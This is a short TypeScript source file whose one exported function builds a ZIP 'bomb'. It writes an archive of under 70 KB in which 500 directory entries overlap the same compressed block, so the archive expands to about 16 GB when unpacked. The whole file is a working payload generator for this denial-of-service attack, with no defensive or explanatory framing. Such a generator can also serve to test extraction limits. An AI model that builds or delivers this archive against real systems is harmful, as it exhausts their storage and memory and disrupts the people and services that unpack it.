import { crc32, deflateRawSync } from "node:zlib";

/** Returns a ZIP archive of less than 70 KB whose 500 entries share one content; unpacked they have 16 GB. */
export function zipBomb(): Buffer {
  const content = Buffer.alloc(32 * 1024 ** 2);
  const packed = deflateRawSync(content, { level: 9 });
  const facts = Buffer.alloc(12);
  facts.writeUInt32LE(crc32(content), 0);
  facts.writeUInt32LE(packed.length, 4);
  facts.writeUInt32LE(content.length, 8);
  const entry = (signature: number, versions: number): Buffer => {
    const head = Buffer.alloc(4 + versions * 2 + 8);
    head.writeUInt32LE(signature, 0);
    for (let at = 0; at < versions; at += 1) head.writeUInt16LE(20, 4 + at * 2);
    head.writeUInt16LE(8, 4 + versions * 2 + 2);
    return Buffer.concat([head, facts]);
  };
  const nameLength = 4;
  const local = Buffer.concat([
    entry(0x04034b50, 1),
    uint16(nameLength),
    uint16(0),
    Buffer.from("0000"),
    packed,
  ]);
  const listed = Array.from({ length: 500 }, (_, at) =>
    Buffer.concat([
      entry(0x02014b50, 2),
      uint16(nameLength),
      Buffer.alloc(16),
      Buffer.from(String(at).padStart(nameLength, "0")),
    ]),
  );
  const directory = Buffer.concat(listed);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(listed.length, 8);
  end.writeUInt16LE(listed.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, directory, end]);
}

function uint16(value: number): Buffer {
  const bytes = Buffer.alloc(2);
  bytes.writeUInt16LE(value);
  return bytes;
}
